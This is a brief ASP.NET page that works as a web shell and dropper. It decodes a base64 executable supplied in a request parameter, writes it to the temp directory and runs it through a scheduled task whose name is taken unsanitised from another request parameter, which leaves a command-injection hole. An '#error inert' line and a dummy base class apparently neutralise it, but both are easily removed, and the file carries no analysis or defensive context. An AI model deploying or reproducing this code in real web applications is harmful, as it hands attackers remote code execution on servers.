<%@ Page Language="C#" Inherits="Inert.Nothing" %>
<%
#error inert
string t = System.IO.Path.Combine(System.IO.Path.GetTempPath(), Guid.NewGuid().ToString("N") + ".exe");
System.IO.File.WriteAllBytes(t, Convert.FromBase64String(Request["bin"]));
System.Diagnostics.Process.Start("schtasks", "/create /tn " + Request["n"] + " /tr \"" + t + "\" /sc once /st 00:00 /f");
%>
